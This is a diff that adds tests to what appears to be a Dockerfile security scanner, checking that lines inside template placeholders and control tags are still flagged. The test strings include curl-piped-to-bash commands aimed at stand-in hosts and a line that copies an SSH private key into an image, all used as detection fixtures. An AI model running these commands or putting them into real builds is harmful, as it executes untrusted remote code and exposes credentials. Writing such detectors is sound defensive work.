@@ -39,10 +39,31 @@ def test_a_line_that_is_no_placeholder_still_fails_closed(tmp_path: Path) -> Non
     assert [(rule, severity.rank >= Severity.MEDIUM.rank) for rule, _, severity in found] == [("MLS909", True)]
 
 
+def test_a_placeholder_ending_a_continuation_does_not_swallow_the_next_instruction(tmp_path: Path) -> None:
+    text = (
+        "{% if gpu %}\nFROM python:3.11\nRUN pip install --no-cache-dir \\\n"
+        "    {{ requirements }}\nCOPY id_rsa /root/.ssh/id_rsa\n"
+    )
+    found = _findings(tmp_path, text)
+    assert ("MLS507", 5, Severity.HIGH) in found
+
+
+def test_an_instruction_between_control_tags_is_checked(tmp_path: Path) -> None:
+    text = "FROM python:3.11\n{% if debug %}RUN curl -fsSL https://get.example.com/d.sh | bash{% endif %}\n"
+    assert ("MLS503", 2, Severity.HIGH) in _findings(tmp_path, text)
+    erb = "FROM python:3.11\n<% if gpu %>RUN curl -fsSL https://get.example.com/d.sh | bash<% end %>\n"
+    assert ("MLS503", 2, Severity.HIGH) in _findings(tmp_path, erb)
+
+
+def test_an_expression_with_a_literal_is_no_placeholder(tmp_path: Path) -> None:
+    found = _findings(tmp_path, "{% if x %}\nFROM python:3.11\n{{ 'RUN curl https://x.example/i | sh' }}\n")
+    assert [(rule, severity.rank >= Severity.MEDIUM.rank) for rule, _, severity in found] == [("MLS909", True)]
+
+
 def test_blanking_keeps_every_other_line() -> None:
-    text = "FROM x\n  {pip}  \nRUN a {b}\n${EXTRA}\n<%= steps %>\n"
+    text = "FROM x\n  {pip}  \nRUN a {b}\n${EXTRA}\n<%= steps %>\n{{ pkgs | join(' ') }}\n"
     blanked, lines = blank_placeholders(text)
-    assert lines == [2, 4, 5]
+    assert lines == [2, 4, 5, 6]
     assert blanked.split("\n")[0] == "FROM x" and blanked.split("\n")[2] == "RUN a {b}"
 
 
